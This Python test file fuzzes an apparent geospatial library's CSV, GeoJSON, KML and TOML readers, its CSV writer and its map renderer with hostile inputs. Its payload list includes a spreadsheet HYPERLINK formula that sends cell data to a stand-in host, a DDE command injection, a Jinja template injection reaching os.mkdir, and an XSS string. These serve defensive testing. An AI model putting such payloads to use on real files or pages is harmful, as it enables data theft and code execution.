"""Property-based tests over geozones' front doors: readers, scenarios, writers and maps.

What must hold whatever a hostile source or an unlucky user hands in:

- **rows in equal rows out**: a delimited file of n records gives n result rows, in order,
  each with a position or a non-empty error;
- **only GeozonesError**: any bytes, any GeoJSON, any KML, any scenario TOML is read or
  refused with a :class:`geozones.GeozonesError`, never another exception;
- **no template evaluation**: text with Jinja syntax reaches a map as the same text;
- **formula-safe, lossless CSV**: what ``save_positions`` writes has no cell a spreadsheet
  would run, and ``read_positions`` gives the original text back.

The profile in ``conftest.py`` fixes the seed and keeps the budget small in the normal run;
``scripts/test --hypothesis-profile=long -k fuzz`` runs 2,000 random examples per property.
The geometry properties (``distance_to_line``, ``build_zones``, ``read_lines``) live in
``test_geometry_hostile.py``.
"""

from __future__ import annotations

import csv
import io
import json
import math
import re
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

import geozones as gz
from geozones import checks
from geozones.actors import DEFAULT_GROUPS

pytestmark = pytest.mark.filterwarnings("ignore::geozones.GeozonesWarning")

# Settings for tests that take a fresh temporary file per example.
_files = settings(suppress_health_check=[HealthCheck.function_scoped_fixture])

HOSTILE_CELLS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "{{ lipsum.__globals__.os.mkdir(lipsum.__name__) }}",
    "{{7*7}}",
    "{# hidden #}",
    "{% raw %}",
    "{{citation needed}}",
    '<img src=x onerror="window.__xss=1">',
    '"',
    '""',
    "a,b;c\td|e",
    "line\nbreak",
    "",
    " ",
    "33.1e1 35.8",
    "0218-06-01",
    "2500-01-01",
    "inf",
    "NaN",
    "درعا",
    "קצרין",
    "Hezbollah",
]
text = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
    max_size=24,
)
cell = st.one_of(st.sampled_from(HOSTILE_CELLS), text)
latitude = st.one_of(
    st.floats(32.0, 34.0).map(lambda v: f"{v:.5f}"), cell, st.just("95"), st.just("")
)
longitude = st.one_of(st.floats(35.0, 37.0).map(lambda v: f"{v:.5f}"), cell, st.just(""))


@st.composite
def sheets(draw):
    """A table of reported positions, hostile cells mixed with good ones."""
    n = draw(st.integers(1, 12))
    return pd.DataFrame(
        {
            "lat": draw(st.lists(latitude, min_size=n, max_size=n)),
            "lon": draw(st.lists(longitude, min_size=n, max_size=n)),
            "actor": draw(st.lists(cell, min_size=n, max_size=n)),
            "date": draw(st.lists(cell, min_size=n, max_size=n)),
            "source": draw(st.lists(cell, min_size=n, max_size=n)),
        }
    )


def _write_csv(table: pd.DataFrame, path: Path, *, delimiter=",", newline="\n", encoding="utf-8"):
    out = io.StringIO()
    # Python's csv module leaves a CR or LF unquoted when the line ends in the other one,
    # and a reader that takes any line ending rightly breaks the line there: quote all then.
    breaks = table.map(lambda v: "\r" in str(v) or "\n" in str(v)).to_numpy().any()
    quoting = csv.QUOTE_ALL if breaks else csv.QUOTE_MINIMAL
    writer = csv.writer(out, delimiter=delimiter, lineterminator=newline, quoting=quoting)
    writer.writerow(table.columns)
    writer.writerows(table.itertuples(index=False))
    path.write_bytes(out.getvalue().encode(encoding))


def _one_row_each(result, n: int) -> None:
    assert len(result) == n
    assert result["row"].is_monotonic_increasing and result["row"].is_unique
    unusable = result["error"].astype(str) != ""
    located = result.geometry.notna() & ~result.geometry.is_empty
    assert (unusable | located).all(), "a row with neither a position nor an error"


# ----------------------------------------------------------------------- readers


@_files
@given(
    table=sheets(),
    delimiter=st.sampled_from([",", ";", "\t"]),
    newline=st.sampled_from(["\n", "\r\n", "\r"]),
)
def test_every_record_comes_out_once(tmp_path, table, delimiter, newline):
    path = tmp_path / "reports.csv"
    _write_csv(table, path, delimiter=delimiter, newline=newline)
    try:
        result = gz.read_positions(path)
    except gz.GeozonesError:
        return  # refused as a whole (e.g. no column holds positions): said, not lost
    _one_row_each(result, len(table))


@_files
@given(raw=st.binary(max_size=3000))
def test_any_bytes_are_read_or_refused_cleanly(tmp_path, raw):
    path = tmp_path / "any.csv"
    path.write_bytes(raw)
    try:
        gz.read_positions(path)
    except gz.GeozonesError:
        pass


@_files
@given(table=sheets(), cut=st.integers(0, 400), junk=st.binary(max_size=40))
def test_a_damaged_file_is_read_or_refused_cleanly(tmp_path, table, cut, junk):
    path = tmp_path / "damaged.csv"
    _write_csv(table, path)
    raw = path.read_bytes()
    path.write_bytes(raw[:cut] + junk + raw[cut:])
    try:
        gz.read_positions(path)
    except gz.GeozonesError:
        pass


json_value = st.recursive(
    st.none() | st.booleans() | st.floats(allow_nan=False) | text | st.sampled_from(HOSTILE_CELLS),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(text, inner, max_size=3),
    max_leaves=8,
)
geometry = st.one_of(
    st.none(),
    st.builds(
        lambda x, y: {"type": "Point", "coordinates": [x, y]},
        st.floats(-200, 200, allow_nan=False),
        st.floats(-100, 100, allow_nan=False),
    ),
    st.builds(lambda v: {"type": "Point", "coordinates": v}, json_value),
    st.just({"type": "LineString", "coordinates": [[35.8, 33.1], [35.9, 33.0]]}),
    st.just({"type": "Polygon", "coordinates": []}),
)


@_files
@given(
    features=st.lists(
        st.fixed_dictionaries(
            {
                "type": st.just("Feature"),
                "geometry": geometry,
                "properties": st.dictionaries(
                    st.sampled_from(["actor", "date", "source", "lat", "lon", "place"]),
                    json_value,
                    max_size=4,
                ),
            }
        ),
        min_size=1,
        max_size=6,
    )
)
def test_any_geojson_is_read_or_refused_cleanly(tmp_path, features):
    path = tmp_path / "reports.geojson"
    path.write_text(json.dumps({"type": "FeatureCollection", "features": features}))
    try:
        result = gz.read_positions(path)
    except gz.GeozonesError:
        return
    _one_row_each(result, len(features))


@_files
@given(names=st.lists(cell, min_size=1, max_size=4), junk=st.sampled_from(["", "<", "&", "]]>"]))
def test_any_kml_is_read_or_refused_cleanly(tmp_path, names, junk):
    from xml.sax.saxutils import escape

    marks = "".join(
        f"<Placemark><name>{escape(n)}{junk}</name><description>{escape(n)}</description>"
        f"<LineString><coordinates>35.8,33.{i} 35.9,33.{i + 1}</coordinates></LineString>"
        "</Placemark>"
        for i, n in enumerate(names)
    )
    path = tmp_path / "lines.kml"
    path.write_text(
        '<?xml version="1.0" encoding="UTF-8"?><kml xmlns="http://www.opengis.net/kml/2.2">'
        f"<Document>{marks}</Document></kml>",
        encoding="utf-8",
    )
    for read in (gz.read_lines, gz.read_positions):
        try:
            read(path)
        except gz.GeozonesError:
            pass


# --------------------------------------------------------------------- scenarios

toml_value = st.one_of(
    st.integers(-(10**6), 10**6),
    st.floats(allow_nan=True, allow_infinity=True),
    st.booleans(),
    text,
    st.lists(st.one_of(text, st.sampled_from(sorted(DEFAULT_GROUPS))), max_size=3),
)
scenario_key = st.sampled_from(
    ["name", "title", "source", "line", "distance_km", "side", "excluded_actors", "proxy"]
    + ["note", "excluded_actor", "distance", "in_force_from"]
)


def _toml(value) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float):
        return (
            "nan"
            if math.isnan(value)
            else ("inf" if value > 0 else "-inf")
            if math.isinf(value)
            else repr(value)
        )
    if isinstance(value, int):
        return str(value)
    if isinstance(value, list):
        return "[" + ", ".join(_toml(v) for v in value) + "]"
    return json.dumps(value)  # a TOML basic string is a JSON string


@_files
@given(table=st.dictionaries(scenario_key, toml_value, max_size=8))
def test_any_scenario_is_valid_or_refused(tmp_path, table):
    path = tmp_path / "s.toml"
    path.write_text("".join(f"{k} = {_toml(v)}\n" for k, v in table.items()), encoding="utf-8")
    try:
        scenario = checks.load_scenario(path)
    except gz.GeozonesError as exc:
        assert str(path) in str(exc)
        return
    assert math.isfinite(scenario.distance_km) and scenario.distance_km > 0
    assert scenario.side in ("both", "left", "right")
    assert set(scenario.excluded_actors) <= set(DEFAULT_GROUPS)


# ------------------------------------------------------------------ CSV round trip

FORMULA = re.compile(r"^[=+\-@\t\r]")
# A plain number ("-0", "+1e5", "-33,5") is data to a spreadsheet, not a formula.
PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:[.,][0-9]*)?|[.,][0-9]+)(?:[eE][+-]?[0-9]+)?")


@_files
@given(table=sheets())
def test_saved_csv_runs_no_formula_and_reads_back_the_same(tmp_path, table):
    table = table.assign(lat="33.1", lon="35.9")
    first = gz.read_positions(table)
    path = tmp_path / "out.csv"
    gz.save_positions(first, path)
    with open(path, newline="", encoding="utf-8-sig") as f:
        rows = list(csv.reader(f))
    header = rows[0]
    for column in ("actor", "source"):
        k = header.index(column)
        for row in rows[1:]:
            assert not FORMULA.match(row[k]) or PLAIN_NUMBER.fullmatch(row[k]), row[k]
    again = gz.read_positions(path)
    for column in ("actor", "source"):
        assert again[column].fillna("").tolist() == first[column].fillna("").tolist()


# --------------------------------------------------------------------------- maps


@_files
@given(words=st.lists(cell, min_size=1, max_size=3), name=cell)
def test_map_text_is_data_never_template(tmp_path, monkeypatch, words, name):
    assume(name.strip())
    monkeypatch.chdir(tmp_path)
    n = len(words)
    table = pd.DataFrame({"lat": [33.0] * n, "lon": [35.9] * n, "actor": words, "extra": words})
    m = gz.zone_map(
        positions=gz.read_positions(table), positions_name=name, columns=["extra"], tools=False
    )
    page = m.get_root().render()
    assert not (tmp_path / "generate_lorem_ipsum").exists()
    script = page.split("</style>")[-1]
    script = script[script.find("geozones.map(") :]
    assert not re.search(r"\{[{%#]", script), "template syntax left in the page"


# ------------------------------------------------------------------ hostile corpus

HOSTILE = Path(__file__).parent / "data" / "hostile"


def _listed(name: str, listing: str) -> bool:
    if f"`{name}`" in listing:
        return True
    prefix = name.split("_", 1)[0]
    return f"`{prefix}_*{Path(name).suffix}`" in listing


@pytest.mark.parametrize(
    "path", sorted(p for p in HOSTILE.iterdir() if p.name != "README.md"), ids=lambda p: p.name
)
def test_every_hostile_file_is_read_or_refused_cleanly(path):
    assert _listed(path.name, (HOSTILE / "README.md").read_text(encoding="utf-8")), (
        f"{path.name} is not described in tests/data/hostile/README.md"
    )
    if path.suffix == ".toml":
        readers = [checks.load_scenario]
    elif path.suffix in (".kml", ".geojson", ".json", ".gpkg"):
        readers = [gz.read_lines, gz.read_positions]
    else:
        readers = [gz.read_positions]
    for read in readers:
        try:
            read(path)
        except gz.GeozonesError:
            pass
